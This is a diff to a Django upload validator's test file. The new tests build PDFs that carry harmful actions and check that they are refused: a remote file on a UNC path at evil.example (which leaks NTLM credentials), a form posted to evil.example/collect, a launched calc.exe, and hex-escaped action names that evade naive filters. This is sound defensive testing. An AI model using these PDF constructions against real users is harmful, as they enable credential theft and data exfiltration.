@@ -14,7 +14,7 @@ from django.core.files.storage import default_storage
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from greenfactory.uploads import GeneratedName, check_upload
 
@@ -91,16 +91,114 @@ def test_a_script_name_spelt_with_hex_escapes_is_found_too():
     assert error.value.code == "pdf_active_content"
 
 
-def test_a_plain_scan_with_a_web_link_is_accepted():
-    def web_link(writer):
+def _action(kind, **entries):
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+UNC = TextStringObject("\\\\evil.example\\share\\x.pdf")
+# Actions that need no script to do harm: a remote file on a UNC path (the reader sends its NTLM credentials), a
+# form posted to a URL, a web address, an embedded or launched file, imported data, media played.
+HARMFUL_ACTIONS = {
+    "GoToR UNC": lambda: _action("/GoToR", F=UNC, D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
+    "SubmitForm": lambda: _action("/SubmitForm", F=DictionaryObject({NameObject("/FS"): NameObject("/URL"),
+                                                                     NameObject("/F"): TextStringObject(
+                                                                         "https://evil.example/collect")})),
+    "URI": lambda: _action("/URI", URI=TextStringObject("https://evil.example/")),
+    "GoToE": lambda: _action("/GoToE", T=DictionaryObject({NameObject("/R"): NameObject("/C")})),
+    "Launch": lambda: _action("/Launch", F=TextStringObject("calc.exe")),
+    "ImportData": lambda: _action("/ImportData", F=UNC),
+    "Rendition": lambda: _action("/Rendition", OP=NumberObject(0)),
+    "Sound": lambda: _action("/Sound", Sound=DictionaryObject()),
+    "Movie": lambda: _action("/Movie", T=TextStringObject("clip")),
+    "Named": lambda: _action("/Named", N=NameObject("/Print")),
+}
+
+
+def _on_open(action):
+    def build(writer):
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    return build
+
+
+def _on_page_open(action):
+    def build(writer):
+        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
+    return build
+
+
+def _as_link(action, key="/A"):
+    def build(writer):
         annotation = DictionaryObject({
             NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
-            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
-                                                NameObject("/URI"): TextStringObject("https://example.org/")}),
+            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
+            NameObject(key): action,
         })
         writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return build
 
-    assert check_upload(_upload(_pdf(web_link))).kind == "pdf"
+
+def _internal_jump(writer):
+    return _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]))
+
+
+@pytest.mark.parametrize("make", list(HARMFUL_ACTIONS.values()), ids=list(HARMFUL_ACTIONS))
+@pytest.mark.parametrize("place", [_on_open, _on_page_open, _as_link], ids=["OpenAction", "AA", "link"])
+def test_a_pdf_with_an_action_other_than_an_internal_jump_is_refused_as_a_scan(make, place):
+    with pytest.raises(ValidationError) as error:
+        check_upload(_upload(_pdf(place(make()))))
+    assert error.value.code == "pdf_active_content"
+
+
+@pytest.mark.parametrize("name", ["/GoToR", "/SubmitForm", "/Launch"])
+def test_an_action_type_spelt_with_hex_escapes_is_found_too(name):
+    content = _pdf(_as_link(HARMFUL_ACTIONS[name[1:] if name != "/GoToR" else "GoToR UNC"]()))
+    escaped = name[:2] + f"#{ord(name[2]):02x}" + name[3:]
+    content = content.replace(name.encode(), escaped.encode())
+    assert escaped.encode() in content
+    with pytest.raises(ValidationError) as error:
+        check_upload(_upload(content))
+    assert error.value.code == "pdf_active_content"
+
+
+def test_an_action_chained_after_an_internal_jump_is_refused():
+    def build(writer):
+        jump = _internal_jump(writer)
+        jump[NameObject("/Next")] = HARMFUL_ACTIONS["GoToR UNC"]()
+        _as_link(jump)(writer)
+
+    with pytest.raises(ValidationError):
+        check_upload(_upload(_pdf(build)))
+
+
+def test_any_automatic_action_is_refused_even_an_internal_jump():
+    def on_open_jump(writer):
+        _on_open(_internal_jump(writer))(writer)
+
+    def on_page_jump(writer):
+        _on_page_open(_internal_jump(writer))(writer)
+
+    for build in (on_open_jump, on_page_jump):
+        with pytest.raises(ValidationError) as error:
+            check_upload(_upload(_pdf(build)))
+        assert error.value.code == "pdf_active_content"
+
+
+def test_a_scan_with_internal_links_and_an_opening_view_is_accepted():
+    def build(writer):
+        _as_link(_internal_jump(writer))(writer)
+        # A destination (open at page 1, fit to window) is not an action: scanning software writes it.
+        writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference,
+                                                                      NameObject("/Fit")])
+        # /S names that are not actions: a page transition, a transparency group, page labels.
+        writer.pages[0][NameObject("/Trans")] = DictionaryObject({NameObject("/S"): NameObject("/Dissolve")})
+        writer.pages[0][NameObject("/Group")] = DictionaryObject({NameObject("/S"): NameObject("/Transparency")})
+        writer._root_object[NameObject("/PageLabels")] = DictionaryObject({NameObject("/Nums"): ArrayObject(
+            [NumberObject(0), DictionaryObject({NameObject("/S"): NameObject("/D")})])})
+
+    assert check_upload(_upload(_pdf(build))).kind == "pdf"
     assert check_upload(_upload(_pdf())).kind == "pdf"
 
 
